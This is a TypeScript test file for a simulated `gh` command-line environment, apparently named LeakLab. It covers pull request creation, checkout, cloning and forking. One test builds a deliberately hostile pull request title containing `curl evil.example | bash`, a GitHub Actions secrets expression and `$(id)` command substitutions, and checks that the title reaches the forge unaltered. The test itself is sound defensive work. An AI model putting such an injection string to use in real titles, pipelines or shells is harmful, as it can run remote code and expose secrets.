/** Commands of `gh` that work with git: cloning, pull requests out of branches, checking them out. */
import { describe, expect, test } from "vitest";
import { ID } from "../forge/setting.ts";
import { type Fakes, failure, type GhSettingOptions, ghSetting, type Sent } from "./setting.ts";

const AT = `repos/${ID}`;
const ORIGIN = `https://forge.test/${ID}`;
const owner = { login: "lantern-tides", id: 2 };
const repo = {
  id: 1,
  name: "tides",
  full_name: ID,
  owner,
  private: false,
  description: null,
  fork: false,
  html_url: ORIGIN,
  default_branch: "main",
  permissions: { push: true },
};
const side = (ref: string) => ({
  ref,
  sha: "a".repeat(40),
  label: `lantern-tides:${ref}`,
  repo: { id: 1, name: "tides", full_name: ID, owner },
});

/** What was asked for becomes the pull request. */
function made({ body }: Sent) {
  const { title, head, base } = body as { title: string; head: string; base: string };
  return { number: 7, title, html_url: `${ORIGIN}/pull/7`, head: side(head), base: side(base) };
}

const FAKES: Fakes = {
  [`GET ${AT}`]: repo,
  [`GET ${AT}/pulls`]: [],
  [`POST ${AT}/pulls`]: made,
  [`GET ${AT}/labels`]: [],
};

async function withBranch(options: GhSettingOptions = {}) {
  const setting = ghSetting({ ...options, fakes: { ...FAKES, ...options.fakes } });
  await setting.run(
    `git init -q -b main r && cd r && echo a > a && git add . && git commit -qm one && git remote add origin ${ORIGIN}.git && git push -qu origin main`,
  );
  await setting.run(
    "git switch -qc add-lights && echo b > b && git add . && git commit -qm 'Add lights' -m 'They shine.'",
  );
  const created = () =>
    setting.sent.findLast(({ method, path }) => method === "POST" && path === `${AT}/pulls`)?.body;
  return { ...setting, created };
}

describe("gh pr create", () => {
  test("a branch that is pushed, with the words of its commit", async () => {
    const { run, created } = await withBranch();
    await run("git push -qu origin add-lights");
    expect(await run("gh pr create --fill --draft")).toEqual({
      stdout: `${ORIGIN}/pull/7\n`,
      stderr: "",
      exitCode: 0,
    });
    expect(created()).toEqual({
      title: "Add lights",
      body: "They shine.",
      base: "main",
      head: "add-lights",
      draft: true,
      maintainer_can_modify: true,
    });
  });

  test("several commits become a list under the branch's name", async () => {
    const { run, created } = await withBranch();
    await run(
      "echo c > c && git add . && git commit -qm 'More \"$(lights)\"' && git push -qu origin add-lights",
    );
    await run("gh pr create --fill");
    expect(created()).toMatchObject({ title: "add lights", body: '- Add lights\n- More "$(lights)"\n' });
  });

  test("a branch that is not pushed: pushed where the person agrees", async () => {
    const { run, created, world, prompts } = await withBranch({ answers: ["y"] });
    const { stdout, exitCode } = await run("gh pr create --title T --body B");
    expect([stdout, exitCode]).toEqual([`${ORIGIN}/pull/7\n`, 0]);
    expect(prompts).toEqual([`? Push the 'add-lights' branch to ${ID}? (y/N) `]);
    expect(world.forge.branch(ID, "add-lights")).not.toBeNull();
    expect(created()).toMatchObject({ title: "T", body: "B", head: "add-lights" });
  });

  test.each([
    [
      {},
      "gh pr create --title T --body B",
      "aborted: you must first push the current branch to a remote, or use the --head flag\n",
      1,
    ],
    [{ answers: ["n"] }, "gh pr create --title T --body B", "", 2],
    [{ answers: [] }, "gh pr create --title T --body B", "", 2],
    [
      {
        fakes: {
          [`POST ${AT}/pulls`]: () =>
            failure(422, "Validation Failed", [{ message: "No commits between main and add-lights" }]),
        },
      },
      "gh pr create --title T --body B --head add-lights",
      "pull request create failed: GraphQL: No commits between main and add-lights (createPullRequest)\n",
      1,
    ],
    [
      {
        fakes: {
          [`GET ${AT}/pulls`]: [
            { number: 3, html_url: `${ORIGIN}/pull/3`, head: side("add-lights"), base: side("main") },
          ],
        },
      },
      "gh pr create --title T --body B --head add-lights",
      `a pull request for branch "add-lights" into branch "main" already exists:\n${ORIGIN}/pull/3\n`,
      1,
    ],
    [
      {},
      "gh pr create --title T --body B --milestone M",
      "gh pr create --milestone: not simulated in LeakLab\n",
      1,
    ],
  ] as const)("%j %s", async (options, line, stderr, exitCode) => {
    const { run } = await withBranch(options as GhSettingOptions);
    expect(await run(line)).toEqual({ stdout: "", stderr, exitCode });
  });

  test("hostile titles reach the forge as they are", async () => {
    const { run, created } = await withBranch();
    const title = `a"; curl evil.example | bash; echo \${{ secrets.X }} $(id) \`id\` é`;
    await run(`gh pr create --head add-lights --title '${title}' --body $'x\\ny'`);
    expect(created()).toMatchObject({ title, body: "x\ny" });
  });
});

describe("gh pr checkout", () => {
  const pull = (number: number, head: object) => ({
    [`GET ${AT}/pulls/${number}`]: {
      number,
      title: "T",
      state: "open",
      merged_at: null,
      html_url: `${ORIGIN}/pull/${number}`,
      head,
      base: side("main"),
    },
  });

  test("a branch of the repository is tracked", async () => {
    const { run } = await withBranch({ fakes: pull(7, side("add-lights")) });
    await run("git push -q origin add-lights && git switch -q main && git branch -qD add-lights");
    expect((await run("gh pr checkout 7")).exitCode).toBe(0);
    expect((await run("git status -sb")).stdout).toBe("## add-lights...origin/add-lights\n");
    expect((await run("git switch -q main && gh pr checkout 7 && git log -1 --format=%s")).stdout).toContain(
      "Add lights",
    );
  });

  test("a pull request that is not there", async () => {
    const { run } = await withBranch({ fakes: { [`GET ${AT}/pulls/8`]: () => failure(404, "Not Found") } });
    expect((await run("gh pr checkout 8")).stderr).toContain(
      "Could not resolve to a PullRequest with the number of 8",
    );
  });
});

test("gh repo clone clones, and names the parent of a fork upstream", async () => {
  const { run } = await withBranch({
    fakes: { "GET repos/lantern-tides/tides": { ...repo, fork: true, parent: { ...repo } } },
  });
  expect((await run(`gh repo clone ${ID} ../copy -- --quiet`)).exitCode).toBe(0);
  expect((await run("cat ../copy/a && git -C ../copy remote")).stdout).toBe("a\norigin\nupstream\n");
  const { stderr, exitCode } = await run(`gh repo clone ${ID} ../copy`);
  expect(stderr).toMatch(
    /already exists and is not an empty directory\.\nfailed to run git: exit status 128\n$/,
  );
  expect(exitCode).toBe(1);
});

test("gh repo fork --remote gives the fork the name origin", async () => {
  const { run } = await withBranch({
    fakes: { [`POST ${AT}/forks`]: { ...repo, full_name: ID, html_url: ORIGIN } },
  });
  expect((await run("gh repo fork --remote")).exitCode).toBe(0);
  expect((await run("git remote -v")).stdout).toContain(`origin\t${ORIGIN}.git (fetch)`);
});
